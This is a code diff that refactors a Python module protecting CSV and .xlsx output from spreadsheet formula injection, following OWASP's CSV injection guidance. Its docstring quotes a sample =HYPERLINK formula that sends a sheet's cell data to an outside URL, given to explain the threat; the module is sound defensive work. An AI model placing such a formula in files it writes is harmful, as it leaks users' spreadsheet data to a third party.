@@ -1,37 +1,24 @@
 """Text that a spreadsheet must not run: formula-safe CSV columns and workbook cells.
 
-An event name or label is free text from the user's calendar, and it reaches
-every table evcal writes. A spreadsheet program that opens a CSV file runs a
-cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
-tab or carriage return) as a formula; ``=HYPERLINK("http://...?q="&A1, "click")``
-then sends the sheet's data away. OWASP's guidance on CSV injection is the
-rule used here:
-
-* **CSV**: a text cell that begins with one of those characters gets a single
-  quote ``'`` in front (:func:`guard_text`, applied to every text column by
-  :func:`formula_safe_frame`). Numeric columns are never touched: a negative
-  number stays a number. A text that itself begins with ``'`` gets one too, so
-  :func:`unguard_text` (remove one leading quote) gives back exactly the text
-  that was written, for any text.
-* A text cell holding a carriage return would end the row early for every CSV
-  reader, since Python's csv writer quotes only the characters of its line
-  terminator: :func:`write_csv` then ends the file's lines with CRLF (RFC 4180),
-  which makes the writer quote that cell. Other files keep LF line ends.
-* **Workbooks**: text is stored as a text cell, never as a formula
-  (:func:`formula_safe_cell` sets openpyxl's data type explicitly); the text
-  reads the same, with no quote added. Characters that an .xlsx file cannot
-  hold at all (XML 1.0 control characters) become U+FFFD instead of stopping
-  the write.
-
-One implementation for every writer: the plan and compare tables, the
-workbook sheets, and the model folder's CSV files.
+Calendar names and labels are free text, and a spreadsheet runs a CSV cell
+that begins with ``=``, ``+``, ``-``, ``@`` (in some programs a tab or carriage
+return) as a formula, e.g. ``=HYPERLINK("http://...?q="&A1, "click")``. The rule
+(OWASP, CSV injection): such a text cell, or one beginning with ``'``, gets a
+``'`` in front (:func:`guard_text`; :func:`unguard_text` is its exact inverse);
+numeric columns are never touched. Python's csv writer quotes only the
+characters of its line terminator, so a file with a carriage return in a cell
+is written with CRLF line ends (RFC 4180, :func:`write_csv`). In workbooks text
+is stored as a text cell, never a formula, without a quote; characters an
+.xlsx cannot hold become U+FFFD (:func:`formula_safe_cell`). One implementation
+for every writer: plan and compare tables, workbook sheets, model folders.
 """
 
 from __future__ import annotations
 
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
 from typing import Any
 
+import numpy as np
 import pandas as pd
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
@@ -55,9 +42,7 @@ def guard_text(text: str) -> str:
     >>> guard_text("'quoted")  # escaped too, so unguard_text is an exact inverse
     "''quoted"
     """
-    if text.startswith(FORMULA_TRIGGERS) or text.startswith(QUOTE):
-        return QUOTE + text
-    return text
+    return QUOTE + text if text.startswith((*FORMULA_TRIGGERS, QUOTE)) else text
 
 
 def unguard_text(text: str) -> str:
@@ -79,54 +64,54 @@ def _is_text_column(series: pd.Series) -> bool:
             or isinstance(dtype, pd.CategoricalDtype))
 
 
-def _any_text_starts(frame: pd.DataFrame, prefixes: tuple[str, ...]) -> bool:
-    """Whether a column name or a text cell of ``frame`` starts with one of ``prefixes`` (vectorised)."""
-    if any(str(c).startswith(prefixes) for c in frame.columns):
-        return True
-    for j in range(frame.shape[1]):
-        col = frame.iloc[:, j]
-        if isinstance(col.dtype, pd.CategoricalDtype):
-            values = pd.Series(col.cat.categories)
-        elif _is_text_column(col):
-            values = col
-        else:
-            continue
-        text = values[values.map(lambda v: isinstance(v, str))] if values.dtype == object else values
-        if len(text) and bool(text.astype(str).str.startswith(prefixes).any()):
-            return True
-    return False
+def _str_hits(values: Iterable[Any], test: Callable[[pd.Series], pd.Series]) -> np.ndarray:
+    """Which of ``values`` are strings passing ``test`` (vectorised, on a Series of those strings).
 
-
-def _map_text(frame: pd.DataFrame, fn: Any, prefixes: tuple[str, ...]) -> pd.DataFrame:
-    """``fn`` on every text cell and column name; ``fn`` changes only texts starting with ``prefixes``.
-
-    Long tables (a panel's millions of key cells) mostly hold nothing to change:
-    a vectorised look first keeps that case to one pass and a shallow copy.
+    Numbers inside a mixed column are not text; a categorical is looked at through its categories.
     """
-    if not _any_text_starts(frame, prefixes):
-        return frame.copy(deep=False)
-    out = frame.copy()
+    values = pd.Series(values)
+    if isinstance(values.dtype, pd.CategoricalDtype):
+        return np.append(_str_hits(values.cat.categories, test), False)[values.cat.codes.to_numpy()]
+    if values.dtype == object:
+        is_str = values.map(lambda v: isinstance(v, str)).to_numpy(dtype=bool)
+    elif pd.api.types.is_string_dtype(values.dtype):
+        is_str = values.notna().to_numpy(dtype=bool)
+    else:
+        return np.zeros(len(values), dtype=bool)
+    hits = np.zeros(len(values), dtype=bool)
+    if is_str.any():
+        hits[is_str] = test(values[is_str].astype(str)).to_numpy(dtype=bool)
+    return hits
+
+
+def _map_text(frame: pd.DataFrame, fn: Callable[[str], str], prefixes: tuple[str, ...]) -> pd.DataFrame:
+    """A copy of ``frame`` with ``fn`` on every text cell and column name starting with ``prefixes``.
+
+    Only the columns with such a cell are copied: a panel's millions of key cells
+    mostly hold nothing to change.
+    """
+    def starts(texts: pd.Series) -> pd.Series:
+        return texts.str.startswith(prefixes)
+
+    out = frame.copy(deep=False)
     for j in range(frame.shape[1]):
         series = frame.iloc[:, j]
-        if not _is_text_column(series):
-            continue  # numbers, dates, booleans: written as they are
         if isinstance(series.dtype, pd.CategoricalDtype):
             cats = series.cat.categories
-            new = series.cat.rename_categories([fn(c) if isinstance(c, str) else c for c in cats]) \
-                if len(cats) else series
-        else:
-            # only str values change: a number inside a mixed column stays a number
-            new = series.map(lambda v: fn(v) if isinstance(v, str) else v, na_action="ignore")
-            new = new.astype(series.dtype)
-        out.isetitem(j, new)
-    out.columns = _map_labels(frame.columns, fn)
+            hits = _str_hits(cats, starts)
+            if hits.any():
+                out.isetitem(j, series.cat.rename_categories(
+                    [fn(c) if hit else c for c, hit in zip(cats, hits, strict=True)]))
+        elif _is_text_column(series):  # numbers, dates, booleans: written as they are
+            hits = _str_hits(series, starts)
+            if hits.any():
+                new = series.copy()
+                new[hits] = [fn(v) for v in series[hits]]
+                out.isetitem(j, new)
+    if not isinstance(frame.columns, pd.MultiIndex):
+        out.columns = pd.Index([fn(c) if isinstance(c, str) else c for c in frame.columns],
+                               name=frame.columns.name)
     return out
-
-
-def _map_labels(labels: pd.Index, fn: Any) -> pd.Index:
-    if isinstance(labels, pd.MultiIndex):
-        return labels
-    return pd.Index([fn(c) if isinstance(c, str) else c for c in labels], name=labels.name)
 
 
 def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
@@ -145,26 +130,10 @@ def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
     return _map_text(frame, guard_text, (*FORMULA_TRIGGERS, QUOTE))
 
 
-def _holds_cr(frame: pd.DataFrame) -> bool:
-    def has_cr(v: object) -> bool:
-        return isinstance(v, str) and "\r" in v
-
-    return any(has_cr(c) for c in frame.columns) or any(
-        any(has_cr(v) for v in frame.iloc[:, j])
-        for j in range(frame.shape[1]) if _is_text_column(frame.iloc[:, j]))
-
-
 def write_csv(frame: pd.DataFrame, target: Any, **to_csv: Any) -> None:
     """``frame.to_csv(target, **to_csv)`` with formula-safe text (every evcal CSV writer uses this).
 
-    Parameters
-    ----------
-    frame : DataFrame
-        The table; it is not modified.
-    target : path or text buffer
-        Where to write.
-    **to_csv
-        Passed to :meth:`pandas.DataFrame.to_csv` (``index``, ``float_format``, ...).
+    ``frame`` is not modified; ``to_csv`` is passed to :meth:`pandas.DataFrame.to_csv`.
 
     Examples
     --------
@@ -175,7 +144,9 @@ def write_csv(frame: pd.DataFrame, target: Any, **to_csv: Any) -> None:
     "event,lift_pct\\n'@x,-2.5\\n"
     """
     safe = formula_safe_frame(frame)
-    if "lineterminator" not in to_csv and _holds_cr(safe):
+    texts = [safe.columns, *(column for _, column in safe.items() if _is_text_column(column))]
+    if "lineterminator" not in to_csv and any(
+            _str_hits(t, lambda s: s.str.contains("\r", regex=False)).any() for t in texts):
         to_csv["lineterminator"] = "\r\n"
     safe.to_csv(target, **to_csv)
 
@@ -217,11 +188,8 @@ def formula_safe_cell(cell: Any) -> Any:
     >>> ws["A1"].data_type, formula_safe_cell(ws["A1"]).data_type
     ('f', 's')
     """
-    value = cell.value
-    if isinstance(value, str):
-        clean = workbook_text(value)
-        if clean != value:
-            cell.value = clean
+    if isinstance(cell.value, str):
+        cell.value = workbook_text(cell.value)
         cell.data_type = "s"
     return cell
 
@@ -239,8 +207,5 @@ def formula_safe_sheet(cells: Iterable[Any]) -> None:
     ['s', 'n']
     """
     for item in cells:
-        if isinstance(item, tuple | list):
-            for cell in item:
-                formula_safe_cell(cell)
-        else:
-            formula_safe_cell(item)
+        for cell in item if isinstance(item, tuple | list) else (item,):
+            formula_safe_cell(cell)
